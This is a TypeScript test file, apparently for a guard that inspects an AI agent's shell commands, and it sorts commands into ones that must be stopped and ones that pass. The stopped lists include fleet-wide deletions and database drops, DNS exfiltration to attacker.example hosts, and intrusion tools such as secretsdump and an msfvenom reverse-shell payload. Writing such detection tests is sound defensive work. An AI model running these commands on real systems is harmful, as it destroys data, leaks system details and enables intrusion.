import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createInspect } from '../../../src/inspect/create-inspect.ts';
import { riskRank } from '../../../src/kernel/finding.ts';

const inspect = await createInspect();

/** HIGH is asked about and CRITICAL denied; anything below passes. */
function isStopped(command: string): boolean {
  const { findings } = inspect({ kind: 'tool', name: 'Bash', args: { command } });
  return findings.some(({ risk }) => riskRank(risk) >= riskRank('HIGH'));
}

const lines = (text: string): readonly string[] => text.trim().split('\n');

function hold({ stopped, passes }: { readonly stopped: string; readonly passes: string }): void {
  assert.deepEqual(
    lines(stopped).filter((one) => !isStopped(one)),
    [],
    'these are asked about',
  );
  assert.deepEqual(lines(passes).filter(isStopped), [], 'these are daily work');
}

test('[INSPECT-188] a command line that a client runs on a fleet of machines is read as one that runs here', () => {
  hold({
    stopped: `
pdsh -w web[1-20] rm -rf /var/www
clush -g db systemctl stop postgresql
pssh -h hosts.txt -t 0 'dropdb shop'
dsh -g all -- reboot
srun -N4 -n4 rm -rf /scratch/shared
parallel-ssh --hosts fleet.txt "mkfs.ext4 /dev/sdb1"`,
    passes: `
pdsh -w web[1-20] uptime
clush -g db df -h
pssh -h hosts.txt 'cat /etc/os-release'
srun -N1 python train.py --epochs 3`,
  });
});

test('[INSPECT-189] code of an application, a target or a playbook that says by its name what it takes away, is asked about', () => {
  hold({
    stopped: `
rails runner 'User.destroy_all'
python manage.py shell -c "from shop.models import Order; Order.objects.all().delete()"
php artisan tinker --execute="DB::table('users')->truncate();"
wp eval '$wpdb->query("DROP TABLE wp_posts");'
make nuke
npm run db:drop
just destroy-prod
rake db:wipe
ansible-playbook -i prod teardown.yml`,
    passes: `
rails runner 'puts User.count'
python manage.py shell -c "print(Order.objects.filter(id=4).exists())"
php artisan tinker --execute="User::count();"
make clean
npm run clean:cache
make -n nuke
just destroy-test
rake db:migrate
ansible-playbook --check -i prod teardown.yml
ansible-playbook -i prod site.yml`,
  });
});

test('[INSPECT-190] what tools of machines, phones, clusters and publishing take away is asked about, what they show is not', () => {
  hold({
    stopped: `
govc vm.destroy web-1
vim-cmd vmsvc/destroy 12
vmrun deleteVM /vms/a.vmx
wp db reset --yes
drush sql-drop -y
airflow db reset -y
mlflow gc
dvc gc --workspace -f
fastboot erase userdata
xcrun simctl erase all
scancel --user bob
sacctmgr -i delete user bob
aws-nuke run -c nuke.yml --no-dry-run
certbot revoke --cert-path /etc/letsencrypt/live/shop/cert.pem
racadm racresetcfg
storcli /c0/v0 del force
frobctl volumes delete v-1 --yes
whatever-cli destroy shop --auto-approve
acmectl teardown prod
snap remove --purge postgresql`,
    passes: `
govc vm.info web-1
vim-cmd vmsvc/getallvms
vmrun list
wp plugin list
drush status
airflow dags list
mlflow ui
dvc pull
fastboot devices
xcrun simctl list
squeue --user bob
sacctmgr show user
aws-nuke run -c nuke.yml
certbot certificates
storcli /c0 show
frobctl volumes list
helm repo remove old
acmectl teardown --help
snap list
tmux kill-session -t dev
notes-cli delete item 4`,
  });
});

test('[INSPECT-191] what a command prints leaves in a name that a name server is asked for, and SQL is read whoever runs it', () => {
  hold({
    stopped: `
dig $(whoami | xxd -p).x.attacker.example
nslookup "$(hostname)".c2.attacker.example
host $(cat /etc/hostname | base64).exfil.attacker.example
run-sql "DROP TABLE customers"
./query.sh --sql "DELETE FROM orders"
echo "TRUNCATE TABLE orders" | acme-sql --prod`,
    passes: `
dig example.com
dig +short $(cat domain.txt)
nslookup api.example.com
run-sql "SELECT count(*) FROM customers"
grep -rn "DROP TABLE customers" migrations
git commit -m "DROP TABLE customers is gone"
./query.sh --sql "DELETE FROM orders WHERE id = 7"`,
  });
});

test('[INSPECT-192] tools that only pose as other machines, listen to them or break into them are asked about', () => {
  hold({
    stopped: `
responder -I eth0
arpspoof -i eth0 -t 10.0.0.5 10.0.0.1
evil-winrm -i 10.0.0.9 -u admin -p x
nxc smb 10.0.0.0/24 -u a -p b -x whoami
impacket-secretsdump admin@10.0.0.9
msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf
./linpeas.sh`,
    passes: `
apt show responder
man ettercap
bettercap --version
msfvenom --list payloads`,
  });
});
